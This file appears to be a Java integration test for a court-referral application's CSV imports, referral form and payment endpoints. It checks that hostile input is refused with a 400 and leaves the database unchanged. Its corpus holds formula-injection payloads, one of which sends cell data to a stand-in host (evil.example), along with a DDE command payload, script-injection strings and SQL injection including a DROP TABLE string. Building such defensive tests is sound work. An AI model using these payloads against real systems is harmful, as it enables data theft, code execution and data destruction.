package org.johnschool.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.johnschool.platform.CsvCell;
import org.johnschool.support.Api;
import org.johnschool.support.ServerClock;
import org.johnschool.support.Api.Reply;
import org.johnschool.support.ClassSessions;
import org.johnschool.support.Database;
import org.johnschool.support.DemoUser;
import org.johnschool.support.Deployments;
import org.johnschool.support.PageSession;
import org.johnschool.support.Referrals;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * A corpus of hostile input (issue 8) against every import and the forms' endpoints: wrong encodings,
 * byte-order marks, huge fields, formula injection, script, SQL metacharacters, dates out of range,
 * absurd money, duplicates, truncated and binary files. Each must be refused with a 400 that names
 * the problem, never a 500, and leave every table of the database exactly as it was (row counts of
 * all domain and audit tables, compared before and after each attempt).
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class HostileInputIT {

  static final String DOCKET = "court,court_case_number,tracking_number,arrest_date,arresting_agency,referral_date,deadline,"
      + "first_name,last_name,date_of_birth,sex,charges,registered_sex_offender";
  static final String ARRESTS = "source_record_id,first_name,last_name,date_of_birth,sex,state_id,fbi_number,arrest_date,agency,"
      + "statute,description,offense_category";
  static final String HISTORY = "court,court_case_number,first_name,last_name,date_of_birth,sex,state_id,fbi_number,referral_date,outcome,"
      + "exit_date,disposition,disposition_date";
  /** Changed by the server's own timers (mail, reminders), or by the attempts' own audit records: not compared. */
  static final List<String> MOVING = List.of("security_event", "notice", "notice_aud", "audit_revision", "audit_revision_entity", "scheduled_run",
      "flyway_schema_history");

  static final String[] TEXT_ATTACKS = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
      "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "Robert'); DROP TABLE referral;--", "' OR '1'='1", "\u0000nul",
      "x".repeat(100_000)};
  /** Free text (a charge's description) may hold markup, shown escaped; formulas, NUL and huge values are refused. */
  static final String[] FREE_TEXT_ATTACKS = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
      "\u0000nul", "x".repeat(100_000)};
  static final String[] DATE_ATTACKS = {"0000-01-01", "9999-12-31", "1800-01-01", "2026-02-30", "-2020-01-01", "yesterday", "2026/01/01",
      "20260101", "2026-1-1", "' OR 1=1 --"};

  @Deployment(testable = false)
  static WebArchive deployment() {
    return Deployments.application();
  }

  @ArquillianResource URL base;

  private final Map<String, Integer> tried = new TreeMap<>();

  /** Row counts of every table the attempts could touch. */
  static Map<String, Long> fingerprint() throws SQLException {
    Map<String, Long> counts = new LinkedHashMap<>();
    try (Connection c = Database.connect(); Statement s = c.createStatement()) {
      List<String> tables = new ArrayList<>();
      try (ResultSet rs = s.executeQuery("select table_name from information_schema.tables where table_schema = 'public'"
          + " and table_type = 'BASE TABLE' order by table_name")) {
        while (rs.next()) {
          tables.add(rs.getString(1));
        }
      }
      for (String table : tables) {
        if (!MOVING.contains(table)) {
          try (ResultSet rs = s.executeQuery("select count(*) from " + table)) {
            rs.next();
            counts.put(table, rs.getLong(1));
          }
        }
      }
    }
    return counts;
  }

  /** Sends one hostile input; it must be refused (400, or 415/413 for what is not even the right kind of body) and change nothing. */
  void refused(String what, java.util.function.Supplier<Reply> attempt) throws SQLException {
    Map<String, Long> before = fingerprint();
    Reply reply = attempt.get();
    assertTrue(reply.status() == 400 || reply.status() == 413 || reply.status() == 415, what + " -> " + shorten(reply.toString()));
    if (reply.status() == 400) {
      assertTrue(reply.body().contains("\"message\""), what + ": the refusal explains itself: " + shorten(reply.body()));
    }
    assertEquals(before, fingerprint(), what + ": nothing stored");
    tried.merge(what.substring(0, what.indexOf(':')), 1, Integer::sum);
  }

  static String shorten(String s) {
    return s.length() > 400 ? s.substring(0, 400) + "..." : s;
  }

  /** The hostile versions of one valid CSV row: each cell in turn replaced by each attack, and the file-level attacks. */
  static Map<String, byte[]> csvCorpus(String header, String validRow, List<String> dateColumns) {
    Map<String, byte[]> corpus = new LinkedHashMap<>();
    String[] columns = header.split(",");
    String[] cells = validRow.split(",", -1);
    for (int i = 0; i < columns.length; i++) {
      String[] attacks = dateColumns.contains(columns[i]) ? DATE_ATTACKS : TEXT_ATTACKS;
      for (String attack : attacks) {
        String[] row = cells.clone();
        row[i] = CsvCell.of(attack).startsWith("'") ? "\"" + attack.replace("\"", "\"\"") + "\"" : CsvCell.of(attack);
        // The attack itself, quoted as a spreadsheet would write it (not defused: the import must do that).
        corpus.put(columns[i] + " = " + label(attack), utf8(header + "\n" + String.join(",", row) + "\n"));
      }
    }
    corpus.put("empty file", new byte[0]);
    corpus.put("header only", utf8(header + "\n"));
    corpus.put("BOM and a bad row", utf8("\uFEFF" + header + "\n" + validRow.replaceFirst("^[^,]*", "") + "\n"));
    corpus.put("Latin-1 bytes", concat(utf8(header + "\n"), validRow.replaceFirst("[A-Za-z]+", "Jos\u00e9").getBytes(StandardCharsets.ISO_8859_1),
        utf8("\n")));
    corpus.put("UTF-16", (header + "\n" + validRow + "\n").getBytes(StandardCharsets.UTF_16));
    corpus.put("truncated in a quote", utf8(header + "\n" + validRow + "\n" + validRow.substring(0, validRow.length() / 2) + ",\"unclosed"));
    corpus.put("row cut short", utf8(header + "\n" + validRow.substring(0, validRow.lastIndexOf(',')) + "\n"));
    corpus.put("extra columns", utf8(header + "\n" + validRow + ",surplus,more\n"));
    corpus.put("10,000 columns", utf8(header + "\n" + validRow + ",".repeat(10_000) + "\n"));
    corpus.put("renamed header", utf8(header.replaceFirst("[a-z_]+", "who_knows") + "\n" + validRow + "\n"));
    corpus.put("duplicate header", utf8(header + "," + header.split(",")[0] + "\n" + validRow + ",x\n"));
    corpus.put("duplicate rows", utf8(header + "\n" + validRow + "\n" + validRow + "\n"));
    corpus.put("lone carriage returns", utf8(header + "\r" + validRow + "\r" + validRow.replaceFirst("^[^,]*", "") + "\r"));
    byte[] garbage = new byte[4096];
    new Random(8).nextBytes(garbage);
    corpus.put("binary", garbage);
    corpus.put("zip", new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0, 8, 0});
    corpus.put("semicolons", utf8(header.replace(',', ';') + "\n" + validRow.replace(',', ';') + "\n"));
    return corpus;
  }

  static String label(String attack) {
    String l = attack.replace("\u0000", "\\0");
    return l.length() > 30 ? l.substring(0, 12) + "... (" + attack.length() + " chars)" : l;
  }

  static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] p : parts) {
      out.writeBytes(p);
    }
    return out.toByteArray();
  }

  @Test
  void every_import_refuses_the_corpus_and_stores_nothing() throws SQLException {
    LocalDate today = ServerClock.today(base);
    // Valid rows, each with a cell that is refused on its own, so that the whole file must fail even when an attack
    // happens to be harmless text (e.g. a name with an apostrophe): the last row of the docket has an unknown court.
    String docketRow = String.join(",", "SF-SUP", Referrals.uniqueCaseNumber(), "T-1", today.minusDays(20).toString(), "SFPD",
        today.minusDays(3).toString(), today.plusDays(60).toString(), "Sam", Referrals.uniqueLastName(), "1970-01-01", "M",
        "647(b)|Solicitation", "");
    String arrestRow = String.join(",", "HOSTILE-" + System.nanoTime(), "Al", "Good", "1970-01-01", "M", "", "", "2020-01-01", "SFPD",
        "647(b)", "", "OTHER");
    String historyRow = String.join(",", "SF-SUP", "H" + System.nanoTime(), "Fred", "Hostile", "1980-02-02", "M", "", "",
        today.minusDays(400).toString(), "failed", today.minusDays(300).toString(), "", "");

    Map<String, Map<String, byte[]>> imports = new LinkedHashMap<>();
    imports.put("api/v1/referrals/import", withPoison(csvCorpus(DOCKET, docketRow, List.of("arrest_date", "referral_date", "deadline",
        "date_of_birth")), DOCKET, docketRow.replaceFirst("SF-SUP", "NO-SUCH-COURT")));
    imports.put("api/v1/arrest-records/import", withPoison(csvCorpus(ARRESTS, arrestRow, List.of("date_of_birth", "arrest_date")), ARRESTS,
        arrestRow.replace("OTHER", "NOT-A-CATEGORY")));
    imports.put("api/v1/historical-cases/import", withPoison(csvCorpus(HISTORY, historyRow, List.of("date_of_birth", "referral_date",
        "exit_date", "disposition_date")), HISTORY, historyRow.replace("failed", "not-an-outcome")));

    Api coordinator = Api.as(base, DemoUser.COORDINATOR);
    for (var entry : imports.entrySet()) {
      for (var attack : entry.getValue().entrySet()) {
        refused(entry.getKey() + ": " + attack.getKey(), () -> coordinator.postBytes(entry.getKey(), attack.getValue()));
      }
    }
    assertTrue(tried.values().stream().mapToInt(Integer::intValue).sum() > 300, tried.toString());
    System.out.println("Hostile input: imports " + tried);
  }

  /** Adds a row the import must refuse to every file that has rows, so a harmless-looking attack cannot slip a valid file through. */
  static Map<String, byte[]> withPoison(Map<String, byte[]> corpus, String header, String poisonRow) {
    Map<String, byte[]> poisoned = new LinkedHashMap<>();
    corpus.forEach((name, bytes) -> {
      String text = new String(bytes, StandardCharsets.UTF_8);
      boolean plainRows = text.startsWith(header) && !name.equals("header only") && !name.contains("Latin-1") && !name.equals("binary");
      poisoned.put(name, plainRows ? concat(bytes, utf8((text.endsWith("\n") ? "" : "\n") + poisonRow + "\n")) : bytes);
    });
    return poisoned;
  }

  @Test
  void the_referral_form_and_money_endpoints_refuse_the_corpus() throws SQLException {
    Api clerk = Api.as(base, DemoUser.CLERK_SF);
    String valid = Referrals.eligible("SF-SUP");
    String lastName = valid.replaceAll("(?s).*\"lastName\":\"([^\"]+)\".*", "$1");
    for (String attack : TEXT_ATTACKS) {
      refused("referral: first name " + label(attack), () -> clerk.post("api/v1/referrals", valid.replace("\"firstName\":\"Jon\"",
          "\"firstName\":" + jsonString(attack))));
    }
    for (String attack : FREE_TEXT_ATTACKS) {
      refused("referral: charge " + label(attack), () -> clerk.post("api/v1/referrals", valid.replace("\"description\":\"Solicitation\"",
          "\"description\":" + jsonString(attack))));
    }
    for (String attack : DATE_ATTACKS) {
      refused("referral: date of birth " + label(attack), () -> clerk.post("api/v1/referrals", valid.replace("\"dateOfBirth\":\"1980-02-03\"",
          "\"dateOfBirth\":" + jsonString(attack))));
    }
    for (String body : new String[] {"", "{", "[]", "null", "\"text\"", "{\"court\":{\"nested\":" + "[".repeat(5000) + "]".repeat(5000) + "}}",
        valid.replace("\"sex\":\"M\"", "\"sex\":42"), valid.replace(lastName, "")}) {
      refused("referral: body " + label(body), () -> clerk.post("api/v1/referrals", body));
    }
    refused("referral: as text/plain", () -> clerk.postCsv("api/v1/referrals", valid));
    // Found by ApiFuzzIT: an unknown property with a cut-off array or object used to hold a server thread for good.
    for (String cut : new String[] {"{\"unknown\": [", "{\"unknown\": {", "{\"unknown\": [[[1,", "{\"court\": \"SF-SUP\", \"x\": {\"y\": ["}) {
      refused("referral: cut-off body " + cut, () -> clerk.post("api/v1/referrals", cut));
    }
    // Media types compare without regard to case (RFC 9110): the body check must see every body JSON-B would read.
    String deep = "{\"court\":" + "[".repeat(100) + "]".repeat(100) + "}";
    for (String type : new String[] {"application/JSON", "Application/Json; charset=UTF-8", "APPLICATION/JSON"}) {
      Reply answer = clerk.post("api/v1/referrals", type, deep);
      assertTrue(answer.status() == 400 && answer.body().contains("deeper than"), type + ": " + answer);
    }

    long referral = ClassSessions.eligibleCase(base);
    Api coordinator = Api.as(base, DemoUser.COORDINATOR);
    for (String amount : new String[] {"-125.00", "0", "0.001", "1e9", "99999999999999999999", "NaN", "Infinity", "12,50", "\"\"", "null",
        "\"=1+1\"", "\"<script>\""}) {
      String value = amount.startsWith("\"") || amount.equals("null") ? amount : "\"" + amount + "\"";
      refused("money: payment " + amount, () -> coordinator.post("api/v1/referrals/" + referral + "/payments",
          "{\"amount\":" + value + ",\"method\":\"CASH\"}"));
    }
    refused("money: unknown method", () -> coordinator.post("api/v1/referrals/" + referral + "/payments",
        "{\"amount\":\"10.00\",\"method\":\"BITCOIN\"}"));
    // A NUL in any text used to reach the database and answer 500: a 400 naming the field.
    for (String[] call : new String[][] {
        {"api/v1/referrals/" + referral + "/payments", "{\"amount\":\"10.00\",\"method\":\"CASH\",\"reference\":\"R\\u0000\"}", "reference"},
        {"api/v1/referrals/" + referral + "/account/adjustments", "{\"amount\":\"-1.00\",\"reason\":\"a\\u0000b\"}", "reason"}}) {
      Reply answer = coordinator.post(call[0], call[1]);
      assertTrue(answer.status() == 400 && answer.body().contains("\"field\":\"" + call[2] + "\""), call[0] + ": " + answer);
    }
    System.out.println("Hostile input: forms " + tried);
  }

  static String jsonString(String s) {
    StringBuilder b = new StringBuilder("\"");
    for (char c : s.toCharArray()) {
      switch (c) {
        case '"' -> b.append("\\\"");
        case '\\' -> b.append("\\\\");
        default -> {
          if (c < 0x20) {
            b.append(String.format("\\u%04x", (int) c));
          } else {
            b.append(c);
          }
        }
      }
    }
    return b.append('"').toString();
  }

  @Test
  void text_that_is_accepted_is_shown_escaped_and_exported_defused() throws Exception {
    Api coordinator = Api.as(base, DemoUser.COORDINATOR);
    String notes = "<script>alert('venue')</script> =HYPERLINK(\"http://evil.example\")";
    Reply venue = coordinator.post("api/v1/venues", "{\"name\":\"Hall " + System.nanoTime() + "\",\"address\":\"1 Way\",\"capacity\":20,"
        + "\"accessibilityNotes\":" + jsonString(notes) + "}");
    assertEquals(201, venue.status(), venue.toString());
    PageSession page = new PageSession(base);
    page.signIn(DemoUser.COORDINATOR);
    String html = page.get("sessions/venues.xhtml").body();
    assertFalse(html.contains("<script>alert('venue')"), "script in stored text is never sent as markup");
    assertTrue(html.contains("&lt;script&gt;alert"), "it is shown as text");

    for (String cell : new String[] {"=1+1", "+1", "-1+A1", "@A1", "\tx", "\rx", "=HYPERLINK(\"x\",\"y\")"}) {
      String out = CsvCell.of(cell);
      String unquoted = out.startsWith("\"") ? out.substring(1) : out;
      assertTrue(unquoted.startsWith("'"), "defused for spreadsheets: " + out);
    }
    assertEquals("Smith", CsvCell.of("Smith"));
    assertEquals("\"a,b\"", CsvCell.of("a,b"));
  }
}
